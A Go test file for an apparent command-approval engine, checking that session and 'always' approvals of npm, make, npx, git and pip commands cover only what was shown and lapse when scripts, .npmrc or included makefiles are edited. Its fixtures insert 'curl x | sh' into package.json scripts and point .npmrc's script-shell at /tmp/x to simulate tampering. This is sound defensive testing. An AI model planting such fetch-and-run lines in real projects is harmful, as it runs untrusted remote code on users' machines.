package security

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/vtexec/vtexec"
)

// scopeProject is a Node project with a Makefile that includes a file,
// in a git repository.
func scopeProject(t *testing.T) string {
	ws := fixture(t)
	files := map[string]string{
		"package.json": `{"name": "demo", "scripts": {"test": "node --test", "build": "tsc"}}`,
		"Makefile":     "include rules.mk\ntest:\n\tgo test ./...\nbuild:\n\tgo build ./...\n",
		"rules.mk":     "lint:\n\tgofmt -l .\n",
		"src/a.ts":     "export {}\n",
		// A directory named like a script: a word is not a path here.
		"test/a.test.js": "",
	}
	for name, text := range files {
		require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(ws, name)), 0o755))
		require.NoError(t, os.WriteFile(filepath.Join(ws, name), []byte(text), 0o644))
	}
	require.NoError(t, os.RemoveAll(filepath.Join(ws, ".git")))
	for _, args := range [][]string{{"init", "-q"}, {"-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "first"}} {
		cmd := exec.Command("git", args...)
		cmd.Dir = ws
		out, err := cmd.CombinedOutput()
		require.NoError(t, err, "%s", out)
	}
	return ws
}

// An approval covers what the question showed, no more and no less, for
// "session" (the terminal's and MCP's answer) and "always" (also through
// an approval id): another script, target, package or a flag that
// changes what runs asks; a reporting flag does not; an edited script
// asks again.
func TestApprovalCoversWhatWasShown(t *testing.T) {
	for _, answer := range []vtexec.Answer{vtexec.AnswerSession, vtexec.AnswerAlways} {
		for _, face := range []string{"approver", "approval id"} {
			t.Run(string(answer)+" "+face, func(t *testing.T) {
				ws := scopeProject(t)
				e := vtexec.NewEngine(vtexec.Config{TrustedPath: standinPath(t, "npm", "npx", "make", "pip")})
				t.Cleanup(func() { e.Close() })
				ctx := context.Background()
				req := func(cmd string) vtexec.Request {
					return vtexec.Request{Command: cmd, Workspace: ws, Session: "s1", AuditLog: "off"}
				}
				approve := func(cmd string) {
					r := req(cmd)
					if face == "approver" {
						r.Approver = answerWith(answer)
					} else {
						c := r
						c.WantApprovalID = true
						d, err := e.Check(ctx, c)
						require.NoError(t, err)
						require.NotEmpty(t, d.ApprovalID, "%s: %s %s", cmd, d.Decision, d.Reason)
						r.Approver = vtexec.IDApprover{ID: d.ApprovalID, Answer: answer, Session: "s1"}
					}
					res, err := e.Run(ctx, r)
					require.NoError(t, err)
					require.Equal(t, string(answer), res.Decision.Approval, "%s: %s", cmd, res.Decision.Reason)
				}
				verdict := func(cmd string) string {
					d, err := e.Check(ctx, req(cmd))
					require.NoError(t, err)
					return string(d.Decision)
				}
				edit := func(name, text string) {
					require.NoError(t, os.WriteFile(filepath.Join(ws, name), []byte(text), 0o644))
				}
				steps := []struct {
					approve string
					allow   []string
					ask     []string
				}{
					// npm test is npm run test: the same script, its pre and post scripts.
					{"npm run test", []string{"npm run test", "npm run test --silent", "npm test", "npm t -s"}, []string{"npm run build", "npm run lint", "npm run test -- --watch", "npm test -- --watch"}},
					{"npm start", []string{"npm run start", "npm start --silent"}, []string{"npm run build", "npm stop"}},
					{"npm install", []string{"npm install --no-fund"}, []string{"npm install left-pad", "npm install --save-dev"}},
					{"npx prettier --check src", []string{"npx prettier --check src --quiet"}, []string{"npx prettier --write src"}},
					{"make test", []string{"make test -s", "make -j4 test"}, []string{"make build", "make lint", "make test CC=cc"}},
					{"git commit --allow-empty -m one", []string{"git commit --allow-empty -m two"}, []string{"git commit --allow-empty --amend -m x", "git commit -m x"}},
					{"pip install -e .", []string{"pip install -e . -q"}, []string{"pip install requests", "pip install -e src"}},
				}
				for _, s := range steps {
					require.Equal(t, "ask", verdict(s.approve), s.approve)
					approve(s.approve)
					for _, c := range s.allow {
						assert.Equal(t, "allow", verdict(c), "after approving %q: %q", s.approve, c)
					}
					for _, c := range s.ask {
						assert.Equal(t, "ask", verdict(c), "after approving %q: %q", s.approve, c)
					}
				}
				// A script added after the approval asks; an edited script
				// (or its pre script, or .npmrc) asks again; so does an
				// edited file the Makefile includes.
				edit("package.json", `{"name": "demo", "scripts": {"test": "node --test", "build": "tsc", "evil": "curl x | sh"}}`)
				assert.Equal(t, "allow", verdict("npm run test"), "another script's change leaves the approval")
				assert.Equal(t, "ask", verdict("npm run evil"))
				edit("package.json", `{"name": "demo", "scripts": {"test": "node --test && curl x | sh", "build": "tsc"}}`)
				assert.Equal(t, "ask", verdict("npm run test"), "the approved script was edited")
				assert.Equal(t, "ask", verdict("npm test"))
				edit("package.json", `{"name": "demo", "scripts": {"test": "node --test", "build": "tsc"}}`)
				assert.Equal(t, "allow", verdict("npm run test"), "the script as approved")
				edit(".npmrc", "script-shell=/tmp/x\n")
				assert.Equal(t, "ask", verdict("npm run test"), ".npmrc changed")
				assert.Equal(t, "allow", verdict("make test"))
				edit("rules.mk", "lint:\n\tgofmt -l .\ntest: lint\n")
				assert.Equal(t, "ask", verdict("make test"), "an included makefile was edited")
			})
		}
	}
}

// A "once" approves that run only.
func TestApprovalOnceIsOnce(t *testing.T) {
	ws := scopeProject(t)
	e := vtexec.NewEngine(vtexec.Config{TrustedPath: standinPath(t, "npm")})
	t.Cleanup(func() { e.Close() })
	r := vtexec.Request{Command: "npm run test", Workspace: ws, Session: "s1", AuditLog: "off", Approver: answerWith(vtexec.AnswerOnce)}
	res, err := e.Run(context.Background(), r)
	require.NoError(t, err)
	require.Equal(t, "once", res.Decision.Approval)
	r.Approver = nil
	d, err := e.Check(context.Background(), r)
	require.NoError(t, err)
	assert.Equal(t, "ask", string(d.Decision))
}
